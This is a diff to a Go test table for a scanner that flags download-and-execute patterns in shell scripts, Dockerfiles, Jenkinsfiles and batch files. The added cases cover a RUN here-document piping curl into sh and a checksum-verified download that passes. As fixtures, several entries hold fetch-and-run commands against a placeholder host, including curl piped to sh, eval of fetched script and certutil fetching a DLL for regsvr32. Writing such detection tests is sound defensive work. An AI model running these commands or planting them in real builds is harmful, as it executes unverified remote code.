@@ -94,6 +94,10 @@ var registry = []Rule{
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
+		// A RUN here-document is the build shell's script, continued lines
+		// and all; one that checks a sum before it unpacks runs nothing.
+		{"Containerfile", "FROM alpine\nRUN <<EOF\ncurl -fsSL https://x.invalid/i \\\n  | sh\nEOF", 4, false},
+		{"Dockerfile", "FROM alpine\nRUN bash <<'EOF'\nset -e\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"0123  t.tgz\" | sha256sum -c\ntar xzf t.tgz\nEOF", 0, true},
 		// A Jenkinsfile's load evaluates the Groovy file a sh step fetched.
 		{"Jenkinsfile", "node {\n  sh 'curl -sSfL https://x.invalid/ci.groovy -o ci.groovy'\n  def ci = load 'ci.groovy'\n}", 3, false},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
